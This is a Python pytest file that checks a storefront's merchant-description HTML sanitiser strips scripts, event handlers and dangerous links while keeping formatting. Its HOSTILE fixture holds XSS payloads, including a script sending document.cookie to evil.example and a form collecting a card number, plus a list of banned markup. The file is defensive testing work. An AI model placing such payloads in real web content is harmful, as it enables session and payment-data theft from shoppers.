"""Merchant HTML is sanitised (issue 13, "What to build" 9): descriptions keep formatting, lose code.

Cleaned when the page is built (storefront/merchant_html.py), so a description
stored by the API, the Shopify sync or before this existed is cleaned alike.
"""

from __future__ import annotations

import pytest

from storefront.merchant_html import clean_merchant_html
from tests.factories import make_collection, make_product
from tests.storefront.conftest import get, parse_html
from tests.storefront.shops import two_shops

HOSTILE = (
    '<p onclick="steal()">Soft <strong>linen</strong>, <em>washed</em>.</p>'
    "<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    '<img src="/media/a.png" alt="shirt" onerror="steal()">'
    '<a href="javascript:steal()">care guide</a>'
    '<a href="https://mills.example/care" onmouseover="steal()">mill</a>'
    '<iframe src="https://evil.example/"></iframe>'
    '<svg><script>steal()</script></svg>'
    '<div style="position:fixed;inset:0" class="buy" id="add-to-cart">overlay</div>'
    '<form action="https://evil.example/"><input name="card"></form>'
    '<a href="data:text/html,<script>steal()</script>">data</a>'
    "<ul><li>one</li><li>two</li></ul><table><tr><td colspan=\"2\">cell</td></tr></table>"
)


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("<p>Soft <strong>linen</strong></p>", "<p>Soft <strong>linen</strong></p>"),
        ("<script>alert(1)</script><b>ok</b>", "<b>ok</b>"),
        ('<img src="x.png" onerror="alert(1)">', '<img src="x.png">'),
        ('<a href="javascript:alert(1)">x</a>', '<a rel="noopener noreferrer nofollow">x</a>'),
        ('<a href="https://e.example/">e</a>', '<a href="https://e.example/" rel="noopener noreferrer nofollow">e</a>'),
        ('<p style="color:red" class="x">t</p>', "<p>t</p>"),
        ("<h1>Title</h1><h2>Care</h2>", "Title<h2>Care</h2>"),
        ("<!-- note --><em>e</em>", "<em>e</em>"),
        ("", ""),
        (None, ""),
    ],
)
def test_clean_merchant_html_allow_list(given, expected):
    assert str(clean_merchant_html(given)) == expected


async def test_product_and_collection_pages_serve_cleaned_descriptions(services, client):
    acme, nordic = await two_shops(services)
    product = await make_product(services, acme.tenant.id, title="Hostile", handle="hostile", description_html=HOSTILE)
    await make_collection(services, acme.tenant.id, [product.id], title="Hostile", handle="hostile", description_html=HOSTILE)

    product_response, product_html = await get(client, acme.host, "/products/hostile")
    collection_response, collection_html = await get(client, acme.host, "/collections/hostile")
    _, nordic_html = await get(client, nordic.host, "/products/linen-shirt")

    for status, html in ((product_response.status_code, product_html), (collection_response.status_code, collection_html)):
        description = parse_html(html).find(".//div[@class='description']")
        kept = "".join(description.itertext())
        markup = html[html.index('<div class="description">') :]
        markup = markup[: markup.index("</table>")]
        assert status == 200
        assert "Soft linen, washed." in kept and "one" in kept and "cell" in kept
        assert description.find(".//strong").text == "linen"
        assert description.find(".//td").get("colspan") == "2"
        assert description.find(".//img").get("src") == "/media/a.png"
        for banned in ("<script", "onclick", "onerror", "onmouseover", "javascript:", "<iframe", "<form", "<input", "style=", "data:text", 'id="add-to-cart"', "<svg"):
            assert banned not in markup, banned
        assert 'href="https://mills.example/care"' in markup
    assert "Soft <strong>linen</strong>." in nordic_html  # another shop's ordinary description is untouched
